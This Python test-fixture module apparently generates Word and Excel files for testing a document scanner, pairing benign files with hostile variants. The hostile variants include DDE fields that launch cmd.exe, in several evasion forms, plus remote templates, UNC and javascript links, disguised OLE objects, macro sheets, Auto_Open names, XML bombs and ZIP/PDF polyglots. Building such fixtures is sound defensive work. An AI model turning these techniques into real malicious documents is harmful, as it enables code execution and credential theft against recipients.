"""Word and Excel files in which something acts, each with one thing more than an honest one, and honest ones."""

import io
import zipfile
from functools import cache

import xlsxwriter
from docx import Document
from PIL import Image

from .spreadsheet_files import OLE, repacked

WORD_XML, WORD_LINKS = "word/document.xml", "word/_rels/document.xml.rels"
BOOK_LINKS, TYPES = "xl/_rels/workbook.xml.rels", "[Content_Types].xml"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


@cache
def document(fill=None):
    """A Word document."""
    made, stream = Document(), io.BytesIO()
    made.add_heading("关于同意成立团支部的批复")
    made.add_paragraph("同意成立团支部。")
    if fill:
        fill(made)
    made.save(stream)
    return stream.getvalue()


@cache
def book(fill=None):
    """A workbook."""
    stream = io.BytesIO()
    with xlsxwriter.Workbook(stream, {"in_memory": True}) as made:
        page = made.add_worksheet("名单")
        page.write_row(0, 0, ["姓名", "人数"])
        page.write_formula("B2", "=SUM(1,2)")
        if fill:
            fill(made, page)
    return stream.getvalue()


def with_change(data, part, old, new):
    """The file with `new` before `old`, which its part has to have."""

    def change(name, content):
        if name != part:
            return content
        assert old.encode() in content
        return content.replace(old.encode(), new.encode() + old.encode(), 1)

    return repacked(data, change)


def with_parts(data, parts, types=""):
    """The file with more parts, and more content types."""
    stream = io.BytesIO(with_change(data, TYPES, "</Types>", types) if types else data)
    with zipfile.ZipFile(stream, "a", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return stream.getvalue()


def with_relationship(data, part, kind, target="x.bin", mode=""):
    """The file with one relationship more."""
    kind = kind if "://" in kind else f"{OFFICE}/{kind}"
    entry = f'<Relationship Id="rId99" Type="{kind}" Target="{target}"{mode}/>'
    return with_change(data, part, "</Relationships>", entry)


def outside(kind, target="http://example.org/a"):
    """A Word document that refers to something outside of it."""
    return with_relationship(document(), WORD_LINKS, kind, target, ' TargetMode="External"')


def override(name, kind):
    """The content type of a part."""
    return f'<Override PartName="/{name}" ContentType="{kind}"/>'


def with_body(xml):
    """A Word document with more in its body."""
    return with_change(document(), WORD_XML, "<w:sectPr", xml)


def mark(kind):
    """The mark of a complex field."""
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def instruction(text, tag="instrText"):
    """A piece of a complex field's code."""
    return f"<w:r><w:{tag}>{text}</w:{tag}></w:r>"


def field(*pieces):
    """A complex field with its code in these pieces."""
    return f"<w:p>{mark('begin')}{''.join(pieces)}{mark('separate')}<w:r><w:t>1</w:t></w:r>{mark('end')}</w:p>"


def simple_field(code, more=""):
    """A simple field."""
    return f'<w:p><w:fldSimple w:instr="{code}"{more}/></w:p>'


@cache
def hostile_documents():
    """{what acts: file}."""
    macro = "application/vnd.ms-word.vbaData+xml"
    choice = (
        '<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006">'
        f'<mc:Choice Requires="z" xmlns:z="z">{instruction("PAGE ")}</mc:Choice></mc:AlternateContent>'
    )
    quoted = f"{mark('begin')}{instruction('QUOTE 68 68 69')}{mark('separate')}{mark('end')}"
    deleted = f'<w:del w:id="1" w:author="x">{instruction(" PAGE x")}</w:del>'
    picture = '<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="http://example.org/a.png"/>'
    template = f'<Relationship Id="rId1" Type="{OFFICE}/attachedTemplate" Target="http://e/a" TargetMode="External"/>'
    template = f'<Relationships xmlns="x">{template}</Relationships>'
    dde = "c:\\windows\\cmd.exe /c calc"
    within = mark("begin") + instruction(f"DDEAUTO {dde}") + mark("separate") + mark("end")
    return {
        "remote template": outside("attachedTemplate"),
        "remote template that is found in another case": with_parts(
            document(), {"word/_RELS/settings.xml.RELS": template}
        ),
        "remote template by a link": with_change(
            document(), "word/settings.xml", "</w:settings>", '<w:attachedTemplate z:id="rId1" xmlns:z="z"/>'
        ),
        "remote picture by a link": with_body('<a:blip xmlns:a="a" xmlns:z="z" z:link="rId1"/>'),
        "remote picture": outside("image"),
        "remote object": outside("oleObject"),
        "remote frame": outside("frame"),
        "remote part of the document": outside("subDocument"),
        "link to a server of the network": outside("hyperlink", "\\\\example.org\\a"),
        "link to a server, escaped": outside("hyperlink", "%5C%5Cexample.org%5Ca"),
        "link to a script, broken": outside("hyperlink", "java&#9;script:alert(1)"),
        "link to a program": outside("hyperlink", "file:///C:/Windows/System32/cmd.exe"),
        "picture fetched by VML": with_body(f"<w:p><w:r><w:pict>{picture}</w:pict></w:r></w:p>"),
        "OLE object": with_relationship(document(), WORD_LINKS, "oleObject"),
        "OLE object that is said to be a picture": with_parts(
            document(), {"word/media/a.png": OLE + bytes(600)}, '<Default Extension="png" ContentType="image/png"/>'
        ),
        "embedded file": with_relationship(document(), WORD_LINKS, "package"),
        "ActiveX": with_relationship(document(), WORD_LINKS, "control"),
        "another document": with_relationship(document(), WORD_LINKS, "aFChunk"),
        "macros": with_relationship(
            document(), WORD_LINKS, "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
        ),
        "macros by their type": with_parts(document(), {"word/a.xml": "<a/>"}, override("word/a.xml", macro)),
        "ribbon": with_parts(document(), {"customUI/a.xml": '<customUI xmlns="x" onLoad="a"/>'}),
        "data of a mail merge": with_change(
            document(), "word/settings.xml", "</w:settings>", '<w:mailMerge><w:query w:val="x"/></w:mailMerge>'
        ),
        "DDE": with_body(simple_field(f"DDE {dde}")),
        "DDE in pieces": with_body(field(instruction("DD"), instruction("EAU"), instruction(f"TO {dde}"))),
        "DDE that is spelt by another field": with_body(field(quoted, instruction(f" {dde}"))),
        "DDE within another field": with_body(field(instruction("IF 1=1 "), within)),
        "DDE behind a deletion": with_body(field(deleted, instruction(f"DDEAUTO {dde}"))),
        "DDE that was deleted": with_body(field(instruction(f"DDEAUTO {dde}", "delInstrText"))),
        "DDE behind a choice": with_body(field(choice, instruction(f"DDEAUTO {dde}"))),
        "DDE behind a second attribute": with_body(simple_field(f"DDE {dde}", ' xmlns:z="z" z:instr="PAGE"')),
        "DDE in a strict document": with_body(
            f'<x:fldSimple xmlns:x="http://purl.oclc.org/ooxml/wordprocessingml/main" x:instr="DDE {dde}"/>'
        ),
        "remote text": with_body(simple_field("INCLUDETEXT http://example.org/a")),
        "remote picture of a field": with_body(field(instruction("INCLUDEPICTURE http://example.org/a \\d"))),
        "entities": with_parts(document(), {"word/a.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}),
        "bomb": with_parts(document(), {"word/a.xml": "<a>" + " " * 9_000_000 + "</a>"}),
        "thousands of parts": with_parts(document(), {f"word/{number}.xml": "<a/>" for number in range(2001)}),
        "part that only some programs find": before_directory(document()),
        "PDF at once": pdf_at_once(),
        "program": with_parts(document(), {"word/a.exe": b"MZ"}),
    }


def pdf_at_once():
    """A Word document that begins with a part in which PDF readers find their header."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as new, zipfile.ZipFile(io.BytesIO(document())) as old:
        new.writestr("docProps/a.xml", "<!--%PDF-1.4--><a/>")
        for name in old.namelist():
            new.writestr(name, old.read(name))
    return stream.getvalue()


def before_directory(data):
    """The file with something between its last part and its list of parts."""
    place = data.rindex(b"PK\x05\x06")
    start = int.from_bytes(data[place + 16 : place + 20], "little")
    end = bytearray(data[place:])
    end[16:20] = (start + 1000).to_bytes(4, "little")
    return data[:start] + b"MZ" + bytes(998) + data[start:place] + bytes(end)


def hostile_workbooks():
    """{what acts: file}."""
    macro_sheet = '<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>'
    macro_type = override("xl/worksheets/a.xml", "application/vnd.ms-excel.macrosheet+xml")
    dde = (
        '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    )
    return {
        "macro sheet": with_parts(book(), {"xl/worksheets/a.xml": macro_sheet}),
        "macro sheet by its type": with_parts(book(), {"xl/worksheets/a.xml": "<a/>"}, macro_type),
        "macro sheet by its relationship": with_relationship(
            book(), BOOK_LINKS, "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet"
        ),
        "DDE": with_parts(book(), {"xl/externalLinks/externalLink1.xml": dde}),
        "other workbook": with_relationship(book(), BOOK_LINKS, "externalLink"),
        "connection": with_relationship(book(), BOOK_LINKS, "connections"),
        "OLE object": with_relationship(book(linked_cell), "xl/worksheets/_rels/sheet1.xml.rels", "oleObject"),
        "formula that starts a program": book(lambda _, page: page.write_formula("A3", "=cmd|'/c calc'!A0")),
        "formula that fetches": book(lambda _, page: page.write_formula("A3", '=WEBSERVICE("http://example.org/")')),
        "name that runs": book(lambda made, _: made.define_name("Auto_Open", "=名单!$A$1")),
        "link to a program": book(lambda _, page: page.write_url("A3", "external:\\\\example.org\\a.xlsx")),
    }


def linked_cell(_, page):
    page.write_url("A3", "https://www.example.org/")


def honest_documents():
    """{what it is: file}."""
    toc = field(instruction(' TOC \\o "1-3" \\h \\z \\u '))
    link = field(instruction(' HYPERLINK "https://www.example.org/" \\o "提示: 说明" '))
    numbers = f'<Relationship Id="rId1" Type="{OFFICE}/package" Target="../embeddings/Sheet1.xlsx"/>'
    chart = with_parts(
        document(),
        {
            "word/charts/chart1.xml": "<c/>",
            "word/charts/_rels/chart1.xml.rels": f'<Relationships xmlns="x">{numbers}</Relationships>',
            "word/embeddings/Sheet1.xlsx": book(),
        },
        '<Default Extension="xlsx" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"/>',
    )
    return {
        "letter": document(),
        "table": document(lambda made: made.add_table(3, 3)),
        "picture": document(lambda made: made.add_picture(picture())),
        "contents, page numbers and links": with_body(toc + link + simple_field(" PAGE \\* MERGEFORMAT ")),
        "link to a page": outside("hyperlink", "https://www.example.org/通知?id=1"),
        "link to a file beside it": outside("hyperlink", "附件1.docx"),
        "chart with its numbers": chart,
    }


def picture():
    """A stream of a picture."""
    stream = io.BytesIO()
    Image.new("RGB", (9, 9)).save(stream, "PNG")
    stream.seek(0)
    return stream


def honest_workbooks():
    """{what it is: file}."""
    return {
        "list": book(),
        "links": book(linked_cell),
        "much of what a workbook can hold": book(with_much),
    }


def with_much(made, page):
    page.write_url("A3", "mailto:a@example.org")
    page.write_comment("A1", "以身份证\n为准")
    page.insert_image("D2", "a.png", {"image_data": picture()})
    page.write_formula("C2", '=IF(A2="a|b",\'名单\'!A1,HYPERLINK("https://www.example.org/","x"))')
    page.write_formula("C3", "=SUM(表1[男|女])")
    page.data_validation("A5", {"validate": "list", "source": ["男", "女"]})
    page.insert_button("F2", {"caption": "打印"})
    chart = made.add_chart({"type": "column"})
    chart.add_series({"values": "=名单!$B$2:$B$3"})
    page.insert_chart("H2", chart)
    made.define_name("名单区", "=名单!$A$1:$B$9")
